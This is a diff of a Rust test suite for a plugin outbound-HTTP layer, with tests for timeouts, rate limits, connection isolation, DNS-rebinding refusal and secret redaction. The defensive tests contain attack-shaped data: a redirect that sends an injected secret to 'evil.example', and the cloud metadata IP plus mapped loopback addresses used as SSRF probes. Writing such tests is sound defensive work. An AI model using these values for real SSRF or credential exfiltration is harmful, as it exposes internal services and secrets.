@@ -1,4 +1,4 @@
-use std::convert::Infallible;
+use std::{convert::Infallible, net::IpAddr};
 
 use axum::{
     Router,
@@ -38,6 +38,12 @@ async fn server() -> SocketAddr {
         .route("/drip", any(drip))
         .route("/never", any(async || std::future::pending::<()>().await))
         .route("/long", any(async || "x".repeat(1000)))
+        .route("/slow", any(slow))
+        .route("/echo-back", any(echo_back))
+        .route(
+            "/packed",
+            any(async || ([("content-encoding", "gzip")], vec![0x1f_u8; 5000])),
+        )
         .route("/headers", any(async || [("x-much", "x".repeat(40_000))]))
         .route(
             "/cookies",
@@ -48,6 +54,28 @@ async fn server() -> SocketAddr {
     #[expect(clippy::disallowed_methods, reason = "ends with the test")]
     tokio::spawn(async move { axum::serve(listener, app).await });
     address
+}
+
+/// Pieces with pauses, each shorter than the settings allow, together longer.
+async fn slow() -> ServerBody {
+    ServerBody::from_stream(stream::unfold((), async |()| {
+        tokio::time::sleep(Duration::from_millis(60)).await;
+        Some((Ok::<_, Infallible>("x"), ()))
+    }))
+}
+
+/// Repeats what it was sent in headers and body, divided into pieces as the query says.
+async fn echo_back(request: Request) -> impl IntoResponse {
+    let size = request.uri().query().unwrap_or_default();
+    let size: usize = size.parse().unwrap();
+    let sent = request.headers().get("authorization").cloned();
+    let sent = sent.unwrap_or_else(|| HeaderValue::from_static("nothing"));
+    let text = sent.as_bytes().to_vec();
+    let body = [b"you sent: ".as_slice(), &text, b" and ", &text].concat();
+    let pieces: Vec<_> = body.chunks(size).map(Bytes::copy_from_slice).collect();
+    let pieces = pieces.into_iter().map(Ok::<_, Infallible>);
+    let headers = [("x-you-sent", sent.clone()), ("set-cookie", sent)];
+    (headers, ServerBody::from_stream(stream::iter(pieces)))
 }
 
 /// Says what came: method, headers and body.
@@ -108,10 +136,21 @@ impl Scene {
         injections: &[Injection],
     ) -> Result<http::Response<Body>, Error> {
         let (mut budget, allowance) = (self.outbound.budget(), soon());
-        let (plugin, policy) = (&self.plugin, &self.policy);
-        self.outbound
-            .send(plugin, policy, request, injections, &mut budget, &allowance)
-            .await
+        let sender = Sender {
+            injections,
+            ..self.sender(&allowance)
+        };
+        self.outbound.send(sender, request, &mut budget).await
+    }
+
+    fn sender<'a>(&'a self, allowance: &'a Allowance) -> Sender<'a> {
+        Sender {
+            plugin: &self.plugin,
+            policy: &self.policy,
+            injections: &[],
+            allowance,
+            patience: Patience::default(),
+        }
     }
 
     async fn get(&self, url: &str) -> Result<http::Response<Body>, Error> {
@@ -206,9 +245,14 @@ async fn an_address_inside_is_refused_however_it_is_written() {
                 continue;
             };
             let (plugin, mut budget) = ("shop".parse().unwrap(), outbound.budget());
-            let sent = outbound
-                .send(&plugin, &policy, request, &[], &mut budget, &soon())
-                .await;
+            let sender = Sender {
+                plugin: &plugin,
+                policy: &policy,
+                injections: &[],
+                allowance: &soon(),
+                patience: Patience::default(),
+            };
+            let sent = outbound.send(sender, request, &mut budget).await;
             let error = sent.unwrap_err();
             let wanted = if host.to_lowercase().starts_with("localhost") {
                 (Kind::Unavailable, "outbound.name_forbidden")
@@ -510,11 +554,8 @@ async fn what_takes_too_long_is_given_up() {
         (Kind::Timeout, "outbound.timeout")
     );
     let (mut budget, past) = (scene.outbound.budget(), until(Instant::now()));
-    let (plugin, policy, request) = (&scene.plugin, &scene.policy, get(&scene.url("/never")));
-    let sent = scene
-        .outbound
-        .send(plugin, policy, request, &[], &mut budget, &past)
-        .await;
+    let (sender, request) = (scene.sender(&past), get(&scene.url("/never")));
+    let sent = scene.outbound.send(sender, request, &mut budget).await;
     assert_eq!(sent.unwrap_err().code, "outbound.timeout");
 }
 
@@ -593,14 +634,12 @@ async fn a_call_has_a_budget_over_all_its_requests() {
         ..Config::default()
     };
     let scene = Scene::with(config).await;
-    let (plugin, policy) = (&scene.plugin, &scene.policy);
+    let allowance = soon();
     let mut budget = scene.outbound.budget();
     for wanted in ["ok", "ok", "outbound.budget_exhausted"] {
         let request = get(&scene.url("/long"));
-        let sent = scene
-            .outbound
-            .send(plugin, policy, request, &[], &mut budget, &soon())
-            .await;
+        let sender = scene.sender(&allowance);
+        let sent = scene.outbound.send(sender, request, &mut budget).await;
         let code = match sent {
             Ok(response) => text(response).await.len().to_string().replace("1000", "ok"),
             Err(error) => error.code.into_owned(),
@@ -609,9 +648,293 @@ async fn a_call_has_a_budget_over_all_its_requests() {
     }
     let mut budget = scene.outbound.budget();
     let redirected = scene.redirect(302, &scene.redirect(302, &scene.redirect(302, "/echo")));
-    let sent = scene
-        .outbound
-        .send(plugin, policy, get(&redirected), &[], &mut budget, &soon())
-        .await;
+    let (sender, request) = (scene.sender(&allowance), get(&redirected));
+    let sent = scene.outbound.send(sender, request, &mut budget).await;
     assert_eq!(sent.unwrap_err().code, "outbound.budget_exhausted");
+}
+
+#[tokio::test]
+async fn a_plugin_that_waits_less_than_the_settings_allow_waits_less() {
+    let scene = Scene::start().await;
+    let allowance = soon();
+    let short = Some(Duration::from_millis(50));
+    let patience = Patience {
+        first_byte: short,
+        between_bytes: None,
+    };
+    let sender = Sender {
+        patience,
+        ..scene.sender(&allowance)
+    };
+    let (mut budget, request) = (scene.outbound.budget(), get(&scene.url("/never")));
+    let sent = scene.outbound.send(sender, request, &mut budget).await;
+    assert_eq!(sent.unwrap_err().code, "outbound.timeout");
+    let patience = Patience {
+        first_byte: None,
+        between_bytes: short,
+    };
+    let sender = Sender { patience, ..sender };
+    let request = get(&scene.url("/drip"));
+    let sent = scene.outbound.send(sender, request, &mut budget).await;
+    let error = sent.unwrap().into_body().collect().await.unwrap_err();
+    assert_eq!(error.code, "outbound.timeout");
+}
+
+#[tokio::test]
+async fn a_body_may_neither_pause_for_long_nor_go_on_for_long() {
+    for (read_ms_max, total_ms_max, path) in [(50, 60_000, "/drip"), (60_000, 300, "/slow")] {
+        let config = Config {
+            read_ms_max,
+            total_ms_max,
+            ..Config::default()
+        };
+        let scene = Scene::with(config).await;
+        let began = std::time::Instant::now();
+        let response = scene.get(&scene.url(path)).await.unwrap();
+        let error = response.into_body().collect().await.unwrap_err();
+        assert_eq!(error.code, "outbound.timeout", "{path}");
+        assert!(began.elapsed() < Duration::from_secs(5), "{path}");
+    }
+}
+
+#[tokio::test]
+async fn nothing_is_unpacked_here() {
+    let scene = Scene::start().await;
+    let mut request = get(&scene.url("/packed"));
+    let accepted = HeaderValue::from_static("gzip, br");
+    request
+        .headers_mut()
+        .insert(header::ACCEPT_ENCODING, accepted);
+    let response = scene.send(request, &[]).await.unwrap();
+    assert_eq!(response.headers()["content-encoding"], "gzip");
+    let body = response.into_body().collect().await.unwrap().to_bytes();
+    assert_eq!(body.len(), 5000, "what came is what the plugin gets");
+}
+
+#[tokio::test]
+async fn a_plugin_has_so_many_requests_and_bytes_in_a_minute() {
+    for (requests, bytes, wanted) in [
+        (3, 1_000_000, ["ok", "ok", "ok", "outbound.rate_exceeded"]),
+        (
+            100,
+            2600,
+            [
+                "ok",
+                "ok",
+                "outbound.rate_exceeded",
+                "outbound.rate_exceeded",
+            ],
+        ),
+    ] {
+        let config = Config {
+            requests_per_minute_max: requests,
+            bytes_per_minute_max: bytes,
+            ..Config::default()
+        };
+        let mut scene = Scene::with(config).await;
+        for wanted in wanted {
+            let code = match scene.get(&scene.url("/long")).await {
+                Ok(response) => {
+                    let body = response.into_body().collect().await;
+                    body.map_or_else(|error| error.code.into_owned(), |_| "ok".to_owned())
+                }
+                Err(error) => error.code.into_owned(),
+            };
+            assert_eq!(code, wanted);
+        }
+        scene.plugin = "other".parse().unwrap();
+        assert_eq!(scene.refusal(&scene.url("/long")).await, "ok");
+    }
+}
+
+/// A server that counts the connections made to it.
+async fn counting(address: SocketAddr) -> (SocketAddr, Arc<AtomicU64>) {
+    let connections = Arc::new(AtomicU64::new(0));
+    let count = connections.clone();
+    let listener = tokio::net::TcpListener::bind(address).await.unwrap();
+    let address = listener.local_addr().unwrap();
+    let listener = axum::serve::ListenerExt::tap_io(listener, move |_| {
+        count.fetch_add(1, Ordering::Relaxed);
+    });
+    let app = Router::new().fallback(async || "hello");
+    #[expect(clippy::disallowed_methods, reason = "ends with the test")]
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    (address, connections)
+}
+
+fn loopback(last: u8, port: u16) -> SocketAddr {
+    SocketAddr::from(([127, 0, 0, last], port))
+}
+
+#[tokio::test]
+async fn connections_are_kept_for_their_plugin_alone_and_not_below_a_wildcard() {
+    let (server, connections) = counting(loopback(1, 0)).await;
+    let config = Config {
+        allow_private: vec![server],
+        ..Config::default()
+    };
+    let resolver: Resolver = Arc::new(move |_| Box::pin(async move { Ok(vec![server.ip()]) }));
+    let outbound = Outbound::with_resolver(config, resolver).unwrap();
+    let port = server.port();
+    let policy = policy(&[
+        format!("one.example:{port}"),
+        format!("*.many.example:{port}"),
+    ]);
+    let allowance = soon();
+    for (plugin, host, wanted) in [
+        ("ann", "one.example", 1),
+        ("ann", "one.example", 1),
+        ("bob", "one.example", 2),
+        ("ann", "one.example", 2),
+        ("ann", "a.many.example", 3),
+        ("ann", "a.many.example", 4),
+    ] {
+        let sender = Sender {
+            plugin: &plugin.parse().unwrap(),
+            policy: &policy,
+            injections: &[],
+            allowance: &allowance,
+            patience: Patience::default(),
+        };
+        let request = get(&format!("http://{host}:{port}/"));
+        let mut budget = outbound.budget();
+        let answer = outbound.send(sender, request, &mut budget).await.unwrap();
+        assert_eq!(text(answer).await, "hello");
+        // The connection is given back a moment after the body is over.
+        tokio::time::sleep(Duration::from_millis(20)).await;
+        assert_eq!(
+            connections.load(Ordering::Relaxed),
+            wanted,
+            "{plugin} {host}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_name_that_changes_its_meaning_leads_nowhere_else() {
+    let (server, here) = counting(loopback(1, 0)).await;
+    // The same port on an address that is not on the list.
+    let (inside, there) = counting(loopback(2, server.port())).await;
+    let config = Config {
+        allow_private: vec![server],
+        allow_http: true,
+        ..Config::default()
+    };
+    let metadata: IpAddr = "169.254.169.254".parse().unwrap();
+    let mapped: IpAddr = "::ffff:127.0.0.2".parse().unwrap();
+    let translated: IpAddr = "64:ff9b::7f00:2".parse().unwrap();
+    let (good, bad) = (server.ip(), inside.ip());
+    let answers = [
+        (vec![good], "ok"),
+        (vec![bad], "outbound.name_forbidden"),
+        (vec![bad, good], "ok"),
+        (vec![good, bad], "ok"),
+        (
+            vec![metadata, bad, mapped, translated],
+            "outbound.name_forbidden",
+        ),
+        (vec![], "outbound.name_forbidden"),
+        (vec![mapped], "outbound.name_forbidden"),
+    ];
+    let turn = Arc::new(AtomicU64::new(0));
+    let (next, said) = (turn.clone(), answers.clone());
+    let resolver: Resolver = Arc::new(move |_| {
+        let answer = said[next.load(Ordering::Relaxed) as usize].0.clone();
+        Box::pin(async move { Ok(answer) })
+    });
+    let outbound = Outbound::with_resolver(config, resolver).unwrap();
+    let name = format!("rebind.example:{}", server.port());
+    let policy = policy(std::slice::from_ref(&name));
+    let allowance = soon();
+    for (number, (addresses, wanted)) in answers.into_iter().enumerate() {
+        turn.store(number as u64, Ordering::Relaxed);
+        let sender = Sender {
+            // Each time another, so that no connection is there already.
+            plugin: &format!("plugin{number}").parse().unwrap(),
+            policy: &policy,
+            injections: &[],
+            allowance: &allowance,
+            patience: Patience::default(),
+        };
+        let request = get(&format!("http://{name}/"));
+        let mut budget = outbound.budget();
+        let sent = outbound.send(sender, request, &mut budget).await;
+        let code = sent.map_or_else(|error| error.code.into_owned(), |_| "ok".to_owned());
+        assert_eq!(code, wanted, "{addresses:?}");
+    }
+    assert_eq!(here.load(Ordering::Relaxed), 3);
+    assert_eq!(there.load(Ordering::Relaxed), 0, "nobody went inside");
+}
+
+/// What the host logs on this thread meanwhile, down to the last detail.
+#[derive(Clone, Default)]
+struct Captured(Arc<Mutex<Vec<u8>>>);
+
+impl std::io::Write for Captured {
+    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+#[test]
+fn an_injected_secret_comes_back_in_no_answer_error_or_log() {
+    use proptest::{
+        strategy::{Strategy as _, ValueTree as _},
+        test_runner::TestRunner,
+    };
+    let captured = Captured::default();
+    let log = captured.clone();
+    let subscriber = tracing_subscriber::fmt()
+        .with_max_level(tracing::Level::TRACE)
+        .with_writer(move || log.clone())
+        .finish();
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    tracing::subscriber::with_default(subscriber, || {
+        runtime.block_on(async {
+            let scene = Scene::start().await;
+            let mut runner = TestRunner::deterministic();
+            for _ in 0..50 {
+                let secret = "[!-)+-~]{8,64}".new_tree(&mut runner).unwrap().current();
+                let size = (1_usize..90).new_tree(&mut runner).unwrap().current();
+                let host = scene.server.to_string();
+                let injection =
+                    Injection::new(&host, header::AUTHORIZATION, "Bearer ", secret.as_bytes());
+                let injections = [injection.unwrap()];
+                let visible = async |url: String| match scene.send(get(&url), &injections).await {
+                    Ok(answer) => format!("{:?} {}", answer.headers().clone(), text(answer).await),
+                    Err(error) => format!("{error:?} {error}"),
+                };
+                let echo = scene.url(&format!("/echo-back?{size}"));
+                let echoed = visible(echo.clone()).await;
+                assert!(echoed.contains("you sent: Bearer ****"), "{echoed}");
+                let mut seen = vec![echoed];
+                // Sent on, it was sent too; where there is nobody, somebody might repeat the request.
+                for url in [
+                    scene.redirect(302, &echo),
+                    scene.redirect(302, &format!("https://evil.example/?{secret}")),
+                    scene.redirect(302, "http://["),
+                    scene.url("/headers"),
+                    scene.url("/nowhere"),
+                    format!("https://{host}/"),
+                ] {
+                    seen.push(visible(url).await);
+                }
+                for text in &seen {
+                    assert!(!text.contains(&secret), "{secret} in {text}");
+                }
+                let log = String::from_utf8_lossy(&captured.0.lock().unwrap()).into_owned();
+                // The tests' own server logs too, and it has seen the secret.
+                assert!(!log.contains(&secret), "{secret} in the log");
+                captured.0.lock().unwrap().clear();
+            }
+        });
+    });
 }
